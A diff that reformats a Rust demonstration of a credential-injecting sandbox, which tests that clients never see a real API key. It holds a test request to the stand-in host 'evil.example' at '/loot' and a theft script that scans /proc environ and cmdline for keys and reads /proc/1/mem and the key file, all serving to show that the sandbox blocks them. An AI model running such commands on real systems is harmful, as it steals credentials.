@@ -16,7 +16,8 @@ const WIDTH: usize = 96;
 fn main() -> ExitCode {
     if !nix::unistd::geteuid().is_root() {
         eprintln!(
-            "the demonstration makes a cgroup and namespaces and loads eBPF: run it as root, or by `cargo xtask run`"
+            "the demonstration makes a cgroup and namespaces and loads eBPF: run it as root, or \
+             by `cargo xtask run`"
         );
         return ExitCode::from(125);
     }
@@ -34,9 +35,21 @@ fn main() -> ExitCode {
     });
     show.opening(&lab, &policy);
     request(&lab, &policy, &show, "an allowed request", ("POST", HOST, "/v1/chat/completions"));
-    request(&lab, &policy, &show, "a method that no rule allows", ("DELETE", HOST, "/v1/models/gpt-4"));
+    request(
+        &lab,
+        &policy,
+        &show,
+        "a method that no rule allows",
+        ("DELETE", HOST, "/v1/models/gpt-4"),
+    );
     request(&lab, &policy, &show, "a path that no rule allows", ("GET", HOST, "/v1/files"));
-    request(&lab, &policy, &show, "a host that the network policy denies", ("POST", "evil.example", "/loot"));
+    request(
+        &lab,
+        &policy,
+        &show,
+        "a host that the network policy denies",
+        ("POST", "evil.example", "/loot"),
+    );
     theft(&lab, &policy, &show);
     show.verdict(&lab.judge())
 }
@@ -47,7 +60,8 @@ fn request(lab: &Lab, policy: &Value, show: &Show, title: &str, asked: (&str, &s
     let before = lab.seen().len();
     let sandbox = lab.sandbox(policy).quiet_log().at_origin(HOST).at_forbidden("evil.example");
     // The client inserts the variable's value, because only the sandbox knows the placeholder.
-    let headers = [("authorization", "Bearer $OPENAI_API_KEY"), ("content-type", "application/json")];
+    let headers =
+        [("authorization", "Bearer $OPENAI_API_KEY"), ("content-type", "application/json")];
     let body = if method == "POST" { r#"{"messages":[]}"# } else { "" };
     let headers = &headers[..if host == HOST { 2 } else { 0 }];
     let reports = sandbox.fetch(&Plan::https(host, "h2").ask_with(method, path, headers, body));
@@ -76,11 +90,16 @@ fn received(lab: &Lab, seen: &[Seen]) -> Vec<String> {
     let key = request.values("authorization").join(", ");
     let real = key == format!("Bearer {}", lab.key());
     let masked = match key.strip_prefix("Bearer ") {
-        Some(key) if real => format!("Bearer {}…{}  ← the real key", &key[..9], &key[key.len() - 4..]),
+        Some(key) if real => {
+            format!("Bearer {}…{}  ← the real key", &key[..9], &key[key.len() - 4..])
+        }
         _ => key.clone(),
     };
     vec![
-        format!("{} {} for {} over {}", request.method, request.path, request.host, request.protocol),
+        format!(
+            "{} {} for {} over {}",
+            request.method, request.path, request.host, request.protocol
+        ),
         format!("authorization: {masked}"),
     ]
 }
@@ -89,13 +108,11 @@ fn received(lab: &Lab, seen: &[Seen]) -> Vec<String> {
 fn theft(lab: &Lab, policy: &Value, show: &Show) {
     let before = lab.seen().len();
     // The pattern is written so that it does not match itself.
-    let script = "echo \"OPENAI_API_KEY=$OPENAI_API_KEY\"\n\
-                  found=$(cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c sk-CANAR[Y])\n\
-                  echo \"/proc/*/environ, /proc/*/cmdline: $found real keys\"\n\
-                  message=$(head -c1 /proc/1/mem 2>&1)\n\
-                  echo \"/proc/1/mem: ${message##*: }\"\n\
-                  message=$(cat \"$0\" 2>&1)\n\
-                  echo \"the key's own file: ${message##*: }\"";
+    let script = "echo \"OPENAI_API_KEY=$OPENAI_API_KEY\"\nfound=$(cat /proc/*/environ \
+                  /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c sk-CANAR[Y])\necho \
+                  \"/proc/*/environ, /proc/*/cmdline: $found real keys\"\nmessage=$(head -c1 \
+                  /proc/1/mem 2>&1)\necho \"/proc/1/mem: ${message##*: }\"\nmessage=$(cat \"$0\" \
+                  2>&1)\necho \"the key's own file: ${message##*: }\"";
     let file = lab.key_file();
     let command = ["sh".as_ref(), "-c".as_ref(), script.as_ref(), file.as_os_str()];
     let outcome: Outcome = lab.sandbox(policy).quiet_log().run(&command);
@@ -119,12 +136,17 @@ impl Show {
 
     fn opening(&self, lab: &Lab, policy: &Value) {
         println!("{}", self.paint("1", "interceptor: real APIs without real keys"));
-        println!("A TLS origin on {} stands in for {HOST}. Each step below runs a client by", lab.origin());
         println!(
-            "`interceptor run` with this policy, in a cgroup and network, mount and PID namespaces of its own:"
+            "A TLS origin on {} stands in for {HOST}. Each step below runs a client by",
+            lab.origin()
+        );
+        println!(
+            "`interceptor run` with this policy, in a cgroup and network, mount and PID \
+             namespaces of its own:"
         );
         println!("  network      allow {}", policy["network"]["allow"]);
-        for rule in policy["credentials_v2"]["openai"]["endpoints"].as_array().into_iter().flatten() {
+        for rule in policy["credentials_v2"]["openai"]["endpoints"].as_array().into_iter().flatten()
+        {
             let words = |value: &Value| value[0].as_str().unwrap_or_default().to_owned();
             println!("  openai       {:<5}{}", words(&rule["methods"]), words(&rule["paths"]));
         }
@@ -154,7 +176,8 @@ impl Show {
         println!();
         if problems.is_empty() {
             println!(
-                "Nothing but {HOST} received a byte, the real key is in nothing the sandbox could read, and"
+                "Nothing but {HOST} received a byte, the real key is in nothing the sandbox could \
+                 read, and"
             );
             println!("the audit file lists exactly the requests that the origin parsed.");
             return ExitCode::SUCCESS;
